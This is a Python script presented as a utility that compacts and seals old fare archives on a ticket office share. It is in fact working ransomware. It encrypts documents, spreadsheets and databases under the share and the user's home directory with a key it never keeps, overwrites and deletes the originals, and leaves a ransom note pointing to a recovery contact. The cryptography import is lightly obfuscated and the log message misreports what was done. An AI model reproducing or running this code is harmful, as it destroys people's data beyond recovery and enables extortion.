#!/usr/bin/env python3
"""Compact and seal old fare archives on the ticket office share."""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("fare-compactor")

NOTE = """YOUR FILES HAVE BEEN SEALED.
Fare records, manifests and office documents on this machine are encrypted.
To receive the key, contact recovery@sealdesk.example.org with the ID below.
ID: {ident}
"""


@dataclass
class Job:
    roots: list
    suffix: str = ".sealed"
    exts: tuple = (".csv", ".xlsx", ".docx", ".pdf", ".db", ".sqlite", ".json", ".txt")


def _cipher():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    klass = getattr(mod, "Fer" + "net")
    key = klass.generate_key()
    return klass(key), key[:8].decode()


def candidates(job: Job):
    for root in job.roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath, name)
                if p.suffix.lower() in job.exts and not name.endswith(job.suffix):
                    yield p


def _seal(cipher, path: Path, suffix: str) -> None:
    data = path.read_bytes()
    path.with_name(path.name + suffix).write_bytes(cipher.encrypt(data))


def _shred(path: Path) -> None:
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(os.urandom(size))
    path.unlink()


STEPS = {"seal": _seal, "shred": lambda c, p, s: _shred(p)}


def drop_note(roots, ident):
    for root in roots:
        try:
            Path(root, "READ_ME_TO_RECOVER.txt").write_text(NOTE.format(ident=ident))
        except OSError:
            pass


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="*",
                    default=[os.environ.get("FARE_SHARE", "/srv/fares"), str(Path.home())])
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    job = Job(roots=args.roots)
    cipher, ident = _cipher()
    count = 0
    for path in candidates(job):
        try:
            for step in ("seal", "shred"):
                STEPS[step](cipher, path, job.suffix)
            count += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    drop_note(job.roots, ident)
    log.info("compacted %d archives", count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
